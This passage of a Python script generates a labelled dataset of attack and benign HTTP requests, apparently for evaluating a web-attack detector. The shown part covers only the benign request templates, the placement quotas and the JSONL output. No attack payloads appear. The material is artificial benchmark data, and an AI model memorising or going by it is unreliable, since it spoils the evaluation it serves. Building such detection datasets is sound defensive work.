                C("/contact", "message", b={"name": "Dana Whitfield", "email": "dana@corpmail.net"}),
                C("/reviews/submit", "review_text", b={"stars": "4"}),
            ],
            "query": [
                C("/api/v1/translate", "text", q={"target": "en"}),
                C("/share", "text", q={"via": "app"}),
                C("/api/v1/comments/search", "q"),
            ],
            "multipart": [C("/api/v1/support/tickets", "description", b={"subject": "Question about my order"})],
            "xml": [C("/api/v1/feedback", "comment", root="feedback", b={"score": "4"})],
            "path": [C("/wiki", "x", ptpl="/community/threads/{}")],
            "cookie": [C("/", "x", ck="draft_comment")],
            "json_key": [
                C("/api/v1/i18n/messages", "x", jk="messages", method="PUT"),
                C("/api/v2/locales/strings/import", "x", jk="strings", method="POST"),
            ],
        },
    ),
    "benign_search": dict(
        items=lambda: [B(q, hard=h) for q, h in SEARCHES],
        quotas={"query": 50, "path": 8, "json": 10, "form": 8, "cookie": 4},
        ctx={
            "query": [
                C("/search", "q"),
                C("/api/v1/search", "query", q={"page": "1"}),
                C("/api/v2/products", "search", q={"per_page": "24"}),
                C("/docs/search", "term"),
                C("/s", "k", q={"ref": "nb_sb_noss"}),
                C("/api/v1/kb/search", "keywords"),
                C("/api/v1/forum/search", "q", q={"sort": "relevance"}),
                C("/api/v1/autocomplete", "prefix", q={"limit": "8"}),
            ],
            "path": [C("/search", "x", ptpl="/search/{}"), C("/s", "x", ptpl="/s/{}")],
            "json": [
                C("/api/v1/search", "query", b={"page": 1, "facets": ["brand", "price"]}),
                C("/1/indexes/products/query", "query", b={"hitsPerPage": 20}),
            ],
            "form": [C("/search", "q", b={"category": "all"})],
            "cookie": [C("/", "x", ck="last_search")],
        },
    ),
    "benign_urls": dict(
        items=lambda: URLS,
        quotas={"query": 26, "json": 28, "form": 12, "xml": 4, "header": 5, "multipart": 3, "cookie": 2},
        ctx={
            "query": [
                C("/share", "url", q={"text": "Check this out"}),
                C("/api/v2/link-preview", "url"),
                C("/viewer", "src"),
                C("/login", "next"),
                C("/auth/sso", "return_to"),
                C(
                    "/oauth/authorize",
                    "redirect_uri",
                    q={
                        "client_id": "orbit-web",
                        "response_type": "code",
                        "scope": "openid profile",
                        "state": "st_4k2Lq",
                    },
                ),
            ],
            "json": [
                C("/api/v1/webhooks", "url", b={"events": ["order.created"], "active": True}),
                C("/api/v1/profile/links", "url", b={"label": "Portfolio"}),
                C("/api/v1/oauth/clients", "redirect_uri", b={"name": "Orbit mobile"}),
                C("/api/v1/bookmarks", "href", b={"title": "Saved"}),
                C("/api/v1/attachments/link", "url", b={"ticket": "T-5512"}),
                C("/api/v1/products/BK-1001/images", "src", b={"alt": "Front view"}),
            ],
            "form": [
                C("/settings/webhooks", "payload_url", b={"content_type": "json"}),
                C("/submit-link", "url", b={"title": "Interesting read"}),
                C("/oauth/token", "redirect_uri", b={"grant_type": "authorization_code", "code": "ac_9f8e7d"}),
            ],
            "xml": [C("/api/v1/callbacks", "endpoint", root="callback", b={"event": "shipment.delivered"})],
            "header": [C("/api/v1/exports", "x", hdr="X-Callback-URL"), C("/pricing", "x", hdr="Referer")],
            "multipart": [C("/api/v1/profile", "website", b={"display_name": "Dana W."})],
            "cookie": [C("/", "x", ck="return_to")],
        },
    ),
    "benign_files": dict(
        items=file_items,
        quotas={"multipart": 30, "json": 19, "json_key": 3, "query": 10, "path": 10, "header": 6, "form": 2},
        ctx={
            "multipart": [
                C("/api/v1/uploads", "file", b={"folder_id": "fld_221"}, mpmode="filename"),
                C("/api/v2/tickets/T-5512/attachments", "attachment", mpmode="filename"),
                C("/drive/upload", "files[]", b={"parent": "root"}, mpmode="filename"),
            ],
            "json": [
                C("/api/v1/files/presign", "filename", b={"size": 482113}),
                C("/api/v2/documents", "name", b={"folder": "/Shared"}),
                C("/drive/v3/files", "name", b={"parents": ["root"]}),
            ],
            "query": [
                C("/api/v1/uploads/presign", "filename", q={"size": "2381123"}),
                C("/api/v1/files", "name", q={"folder": "inbox"}),
            ],
            "path": [
                C("/api/v1/files", "x", ptpl="/api/v1/files/{}"),
                C("/webdav", "x", ptpl="/webdav/Documents/{}"),
                C("/download", "x", ptpl="/download/{}"),
            ],
            "header": [C("/api/v1/uploads", "x", hdr="X-File-Name"), C("/api/v1/media", "x", hdr="Slug")],
            "json_key": [
                C(
                    "/api/v1/archives",
                    "x",
                    jk="files",
                    jk_val={"size": 48211, "include": True},
                    b={"name": "handover.zip"},
                ),
                C("/api/v1/shares/sh_22/manifest", "x", jk="entries", jk_val="read"),
            ],
            "form": [C("/files/rename", "new_name", b={"file_id": "f_8812"})],
        },
    ),
    "benign_base64": dict(
        items=base64_items,
        quotas={"json": 44, "form": 8, "multipart": 10, "query": 6, "cookie": 6, "header": 4, "xml": 2},
        ctx={
            "json": [
                C("/api/v1/me/avatar", "image"),
                C("/api/v1/documents", "content", b={"mime": "application/pdf", "name": "invoice.pdf"}),
                C("/api/v1/events/proto", "payload", b={"encoding": "base64", "type": "orders.v1.Order"}),
                C("/api/v1/vault/items", "ciphertext", b={"alg": "A256GCM", "key_id": "k_2026_11"}),
                C("/api/v1/sync", "data", b={"content_encoding": "gzip"}),
                C("/webauthn/register/finish", "rawId", b={"type": "public-key"}),
            ],
            "form": [
                C("/api/v1/upload-base64", "file_b64", b={"name": "scan"}),
                C("/profile/photo", "image", b={"crop": "1:1"}),
            ],
            "multipart": [C("/api/v1/attachments", "content_base64", b={"filename": "attachment.bin"})],
            "query": [C("/api/v1/orders", "cursor", q={"limit": "50"}), C("/api/v1/track", "d")],
            "cookie": [C("/account", "x", ck="state")],
            "header": [C("/api/v1/objects", "x", hdr="X-Client-Data")],
            "xml": [C("/api/v1/documents", "content", root="document", b={"mime": "application/pdf"})],
        },
    ),
    "benign_jwt": dict(
        items=jwt_items,
        quotas={"header": 30, "cookie": 18, "json": 16, "form": 10, "query": 6},
        ctx={
            "header": [C(p, "x") for p in API_READ_PATHS],
            "cookie": [C("/dashboard", "x"), C("/api/v1/me", "x"), C("/account/orders", "x")],
            "json": [
                C("/api/v1/auth/google", "credential"),
                C("/oauth/revoke", "token", b={"token_type_hint": "access_token"}),
                C("/api/v1/sessions", "id_token", b={"device": "ios"}),
            ],
            "form": [
                C("/oauth/token", "assertion", b={"grant_type": "urn:ietf:params:oauth:grant-type:jwt-bearer"}),
                C(
                    "/oauth2/token",
                    "client_assertion",
                    b={
                        "grant_type": "client_credentials",
                        "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
                    },
                ),
            ],
            "query": [
                C("/ws/notifications", "token"),
                C("/logout", "id_token_hint", q={"post_logout_redirect_uri": "https://app.orbitcrm.io/"}),
            ],
        },
    ),
    "benign_headers": dict(
        items=header_items,
        quotas={"header": 66, "cookie": 14},
        ctx={"header": [C(p, "x") for p in API_READ_PATHS], "cookie": [C(p, "x") for p in API_READ_PATHS[:6]]},
    ),
    "benign_logs": dict(
        items=lambda: LOGS,
        quotas={"json": 50, "multipart": 18, "form": 8, "xml": 4},
        ctx={
            "json": [
                C("/api/v1/logs", "message", b={"level": "error", "service": "orders-api", "host": "web-02"}),
                C(
                    "/api/v2/support/tickets",
                    "description",
                    b={"subject": "Checkout failing since 10:15", "priority": "high"},
                ),
                C("/api/v1/incidents/INC-2211/timeline", "note"),
                C("/v1/input/batch", "line", jwrap=["event"], b={"sourcetype": "app"}),
                C("/api/v1/diagnostics/reports", "content", b={"kind": "config"}),
            ],
            "multipart": [
                C(
                    "/api/v1/support/tickets/T-5512/attachments",
                    "file",
                    mpmode="content",
                    mpname="file",
                    mpct="text/plain",
                )
            ],
            "form": [C("/support/contact", "details", b={"email": "ops@corvid-systems.net", "topic": "bug"})],
            "xml": [C("/api/v1/diagnostics", "log", root="report", b={"app": "OrderSync"})],
        },
    ),
    "benign_commerce": dict(
        items=lambda: COMMERCE,
        quotas={"form": 22, "json": 26, "query": 14, "path": 6, "cookie": 5, "multipart": 3, "xml": 4},
        ctx={
            "form": [C("/checkout/shipping", "full_name", b={"city": "Austin", "zip": "78701", "country": "US"})],
            "json": [C("/api/v1/customers", "name", b={"email": "dana.whitfield@corpmail.net"})],
            "query": [C("/search", "q")],
            "path": [C("/products", "x", ptpl="/products/{}")],
            "cookie": [C("/cart", "x", ck="cart_note")],
            "multipart": [C("/admin/products/import", "title", b={"vendor": "Nordlys"})],
            "xml": [C("/api/v1/orders/export", "Note", root="Order", b={"OrderId": "8812"})],
        },
    ),
}

COMMERCE_CTX = {
    "name": {
        "form": [
            C("/checkout/shipping", "full_name", b={"city": "Austin", "zip": "78701", "country": "US"}),
            C("/account/register", "last_name", b={"first_name": "Dana", "email": "dana@corpmail.net"}),
        ],
        "json": [
            C("/api/v1/customers", "name", b={"email": "cust@corpmail.net", "marketing_opt_in": False}),
            C("/api/v1/orders/8812/recipient", "name", method="PATCH"),
        ],
        "xml": [C("/api/v1/orders/export", "ShipToName", root="Order", b={"OrderId": "8812"})],
        "query": [C("/api/v1/customers", "name")],
    },
    "address": {
        "form": [
            C("/checkout/shipping", "address1", b={"full_name": "Dana Whitfield", "city": "Austin", "zip": "78701"})
        ],
        "json": [C("/api/v1/addresses", "line1", b={"city": "Dublin", "country": "IE", "default": True})],
        "xml": [C("/api/v1/shipments", "Street", root="Address", b={"City": "Lyon", "Country": "FR"})],
    },
    "product": {
        "query": [C("/search", "q"), C("/api/v1/products", "title", q={"in_stock": "true"})],
        "json": [
            C("/api/v1/products", "title", b={"price": 1999, "currency": "USD"}),
            C("/api/v1/wishlist/items", "name"),
        ],
        "form": [C("/admin/products/new", "product[title]", b={"product[vendor]": "Nordlys"})],
        "xml": [C("/api/v1/catalog/import", "Title", root="Product", b={"SKU": "BK-1001"})],
        "multipart": [C("/admin/products/import", "title", b={"vendor": "Nordlys"}, mpfile=TXT_FILES[1])],
        "path": [C("/products", "x", ptpl="/products/search/{}")],
        "cookie": [C("/", "x", ck="recently_viewed_name")],
    },
    "coupon": {
        "form": [C("/cart/apply-coupon", "coupon_code")],
        "json": [C("/api/v1/cart/discounts", "code")],
        "query": [C("/cart", "discount")],
        "cookie": [C("/cart", "x", ck="applied_coupon")],
        "path": [C("/discount", "x", ptpl="/discount/{}")],
    },
    "note": {
        "form": [C("/checkout/notes", "order_note", b={"cart_token": "c1_8f2k"})],
        "json": [C("/api/v1/orders/8812", "gift_message", method="PATCH")],
        "cookie": [C("/cart", "x", ck="cart_note")],
        "multipart": [C("/api/v1/orders/8812/notes", "note")],
        "xml": [C("/api/v1/orders/export", "Note", root="Order", b={"OrderId": "8812"})],
    },
    "price": {
        "form": [C("/admin/products/BK-1001/variants", "price", b={"sku": "BK-1001-RED"})],
        "json": [C("/api/v1/products/BK-1001", "price", method="PATCH")],
        "query": [C("/api/v1/products", "max_price", q={"currency": "EUR"})],
    },
    "qty": {
        "form": [C("/cart/update", "quantity_note")],
        "json": [C("/api/v1/cart/items", "pack", b={"sku": "BK-2044"})],
        "query": [C("/api/v1/cart/add", "pack")],
    },
    "slug": {
        "path": [C("/products", "x", ptpl="/products/{}"), C("/p", "x", ptpl="/p/{}/reviews")],
        "query": [C("/api/v1/products/by-slug", "slug")],
        "json": [C("/api/v1/redirects", "target_slug")],
    },
}

URL_CTX = {
    "webhook": {
        "json": [
            C("/api/v1/webhooks", "url", b={"events": ["order.created"], "active": True}),
            C("/api/v2/integrations/slack", "webhook_url", b={"channel": "#alerts"}),
        ],
        "form": [C("/settings/webhooks", "payload_url", b={"content_type": "json"})],
        "xml": [C("/api/v1/callbacks", "endpoint", root="callback")],
    },
    "redirect": {
        "query": [
            C(
                "/oauth/authorize",
                "redirect_uri",
                q={"client_id": "orbit-web", "response_type": "code", "scope": "openid profile", "state": "st_4k2Lq"},
            )
        ],
        "json": [C("/api/v1/oauth/clients", "redirect_uri", b={"name": "Orbit mobile"})],
        "form": [C("/oauth/token", "redirect_uri", b={"grant_type": "authorization_code", "code": "ac_9f8e7d"})],
    },
    "file": {"json": [C("/api/v1/attachments/link", "url", b={"ticket": "T-5512"})], "query": [C("/viewer", "src")]},
    "image": {
        "json": [C("/api/v1/products/BK-1001/images", "src", b={"alt": "Front view"})],
        "query": [C("/_next/image", "url", q={"w": "640", "q": "75"})],
    },
    "next": {
        "query": [C("/login", "next"), C("/auth/sso", "return_to")],
        "cookie": [C("/", "x", ck="return_to")],
        "form": [C("/login", "redirect", b={"email": "dana@corpmail.net", "password": "correct-horse-battery"})],
    },
    "link": {
        "query": [C("/share", "url", q={"text": "Check this out"}), C("/api/v2/link-preview", "url")],
        "json": [
            C("/api/v1/profile/links", "url", b={"label": "Portfolio"}),
            C("/api/v1/bookmarks", "href", b={"title": "Saved"}),
        ],
        "form": [C("/submit-link", "url", b={"title": "Interesting read"})],
    },
}

B64_CTX = {
    "image": {
        "json": [C("/api/v1/me/avatar", "image"), C("/api/v1/receipts/scan", "photo", b={"merchant": "Copperlane"})],
        "form": [C("/profile/photo", "image", b={"crop": "1:1"})],
        "multipart": [C("/api/v1/attachments", "image_base64", b={"filename": "sig.png"})],
    },
    "pdf": {
        "json": [C("/api/v1/documents", "content", b={"mime": "application/pdf", "name": "invoice.pdf"})],
        "xml": [C("/api/v1/documents", "content", root="document", b={"mime": "application/pdf"})],
    },
    "protobuf": {
        "json": [C("/api/v1/events/proto", "payload", b={"encoding": "base64", "type": "orders.v1.Order"})],
        "query": [C("/api/v1/track", "d")],
        "cookie": [C("/", "x", ck="pb_state")],
        "header": [C("/api/v1/objects", "x", hdr="X-Client-Data")],
        "form": [C("/rpc/orders.v1.OrderService/Get", "message")],
    },
    "ciphertext": {
        "json": [C("/api/v1/vault/items", "ciphertext", b={"alg": "A256GCM", "key_id": "k_2026_11"})],
        "cookie": [C("/", "x", ck="prefs_enc")],
        "header": [C("/api/v1/sync", "x", hdr="X-Encrypted-Context")],
        "form": [C("/api/v1/secure-notes", "blob")],
    },
    "gzip": {"json": [C("/api/v1/sync", "data", b={"content_encoding": "gzip"})]},
    "webauthn": {
        "json": [C("/webauthn/register/finish", "rawId", b={"type": "public-key"})],
        "form": [C("/webauthn/login", "signature")],
    },
    "saml": {"query": [C("/saml/sso", "SAMLRequest", q={"RelayState": "/dashboard"})]},
    "cursor": {"query": [C("/api/v1/orders", "cursor", q={"limit": "50"}), C("/api/v2/events", "page_token")]},
}

CODE_CTX_LANG = True


def benign_ctx(cat, pl, it):
    spec = BENIGN[cat]
    x = getattr(it, "x", {})
    pool = None
    if cat == "benign_commerce":
        pool = COMMERCE_CTX.get(x.get("kind"), {}).get(pl)
    elif cat == "benign_urls":
        pool = URL_CTX.get(x.get("kind"), {}).get(pl)
    elif cat == "benign_base64":
        pool = B64_CTX.get(x.get("role"), {}).get(pl)
    if not pool:
        pool = spec["ctx"][pl]
    ctx = dict(R.choice(pool))
    ctx.update(x.get("ctx", {}))
    for k in ("hdr", "ck", "field"):
        if k in x and (k != "field" or pl in ("json", "form", "query")):
            ctx[k] = x[k]
    if x.get("whole"):
        ctx["whole"] = True
    if cat == "benign_code":
        lang, fn = x["lang"], x["fn"]
        if pl == "json" and "jwrap" in ctx:
            ctx["jwrap"] = [ctx["jwrap"][0], fn]
        elif pl == "json":
            ctx["b"] = dict(ctx.get("b", {}), language=lang)
        elif pl in ("form", "xml"):
            ctx["b"] = dict(ctx.get("b", {}), **{"syntax" if pl == "form" else "lang": lang})
        elif pl == "query":
            ctx["q"] = dict(ctx.get("q", {}), lang=lang)
        if ctx.get("mpmode") == "content":
            ctx["mpfn"] = fn
    if cat == "benign_markdown" and ctx.get("mpmode") == "content":
        ctx["mpfn"] = R.choice(["README.md", "CHANGELOG.md", "docs/runbook.md", "notes.md"])
    if cat == "benign_templates" and ctx.get("mpmode") == "content":
        ctx["mpfn"] = R.choice(["order_shipped.liquid", "welcome.hbs", "invoice_footer.html", "reminder.txt"])
    if cat == "benign_logs" and ctx.get("mpmode") == "content":
        s = it.s()
        ctx["mpfn"] = (
            "app.log"
            if "\n" in s and "at " in s
            else "config.yaml"
            if s.startswith(("apiVersion", "services"))
            else "settings.ini"
            if s.startswith("[") and "=" in s
            else ".env.example"
            if s.startswith("APP_ENV")
            else "log4j2.xml"
            if s.startswith("<Configuration")
            else "error.txt"
        )
    if cat == "benign_files":
        ext = x.get("ext", "")
        ct = EXT_CT.get(ext, "application/octet-stream")
        if pl == "multipart":
            ctx["mpmode"] = "filename"
            ctx["mpname"] = ctx.get("field", "file")
            ctx["mpct"] = ct
            ctx["mpcontent"] = TEXT_CONTENT.get(ext, "")
        elif pl == "json":
            ctx["b"] = dict(ctx.get("b", {}), content_type=ct)
        elif pl == "query":
            ctx["q"] = dict(ctx.get("q", {}), content_type=ct)
    return ctx


def benign_fits(it, pl):
    s = it.s()
    if it.only is not None and pl not in it.only:
        return False
    if pl == "header":
        return header_ok(s)
    if pl == "xml" and not xml_ok_chars(s):
        return False
    if pl == "multipart" and getattr(it, "x", {}).get("ext") is not None and not fits_filename(s):
        return False
    if pl == "path" and len(s) > 200:
        return False
    return True


def gen_benign_category(cat):
    spec = BENIGN[cat]
    items = spec["items"]()
    slots = []
    for pl, k in spec["quotas"].items():
        slots += [pl] * k
    assert len(slots) == 80, (cat, len(slots))
    R.shuffle(slots)
    counts = {}
    for it in items:
        for pl in PLACEMENTS:
            if benign_fits(it, pl):
                counts[pl] = counts.get(pl, 0) + 1
    order = sorted(range(len(slots)), key=lambda i: (counts.get(slots[i], 0), i))
    used = {}
    out = [None] * len(slots)
    for i in order:
        pl = slots[i]
        for attempt in range(80):
            cands = [j for j, it in enumerate(items) if benign_fits(it, pl)]
            if not cands:
                raise RuntimeError("no benign item for %s/%s" % (cat, pl))
            least = min(used.get(j, 0) for j in cands)
            pool = [j for j in cands if used.get(j, 0) == least]
            j = R.choice(pool)
            it = items[j]
            ctx = benign_ctx(cat, pl, it)
            enc = "std"
            if pl == "xml":
                enc = R.choice(["esc", "esc", "cdata"])
            host = ctx.get("host") or pick_host()
            req = build(pl, it.v, ctx, terse=False, enc=enc, host=host)
            tmp = []
            if add_row(tmp, "benign", cat, req, pl, it.hard):
                out[i] = tmp[0]
                used[j] = used.get(j, 0) + 1
                break
        else:
            raise RuntimeError("could not make unique benign row for %s/%s" % (cat, pl))
    return out


BENIGN_ORDER = [
    "benign_api_json",
    "benign_filters",
    "benign_templates",
    "benign_code",
    "benign_markdown",
    "benign_richtext",
    "benign_prose",
    "benign_search",
    "benign_urls",
    "benign_files",
    "benign_base64",
    "benign_jwt",
    "benign_headers",
    "benign_logs",
    "benign_commerce",
]


def number(rows, tag, cat):
    for i, r in enumerate(rows, 1):
        r["id"] = "%s-%s-%s-%04d" % (SOURCE, tag, cat, i)
    return rows


def main():
    rows = []
    for cat, items in ATTACKS:
        rows += number(gen_attack_category(cat, items), "a", cat)
    for cat in BENIGN_ORDER:
        rows += number(gen_benign_category(cat), "b", cat)

    with open(OUT, "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")

    # summary
    by_cat = {}
    by_pl = {}
    for r in rows:
        k = (r["label"], r["category"])
        tot, hard = by_cat.get(k, (0, 0))
        by_cat[k] = (tot + 1, hard + (1 if r["hard"] else 0))
        pk = (r["label"], r["placement"])
        by_pl[pk] = by_pl.get(pk, 0) + 1
    print("%-8s %-18s %5s %5s" % ("label", "category", "rows", "hard"))
    for (lab, cat), (tot, hard) in by_cat.items():
        print("%-8s %-18s %5d %5d" % (lab, cat, tot, hard))
    na = sum(1 for r in rows if r["label"] == "attack")
    nb = len(rows) - na
    print("total attack=%d benign=%d all=%d" % (na, nb, len(rows)))
    print()
    print("%-10s %7s %7s" % ("placement", "attack", "benign"))
    for pl in PLACEMENTS:
        print("%-10s %7d %7d" % (pl, by_pl.get(("attack", pl), 0), by_pl.get(("benign", pl), 0)))
    with open(OUT, "rb") as f:
        print()
        print("sha256 %s  %s" % (hashlib.sha256(f.read()).hexdigest(), os.path.basename(OUT)))


if __name__ == "__main__":
    main()
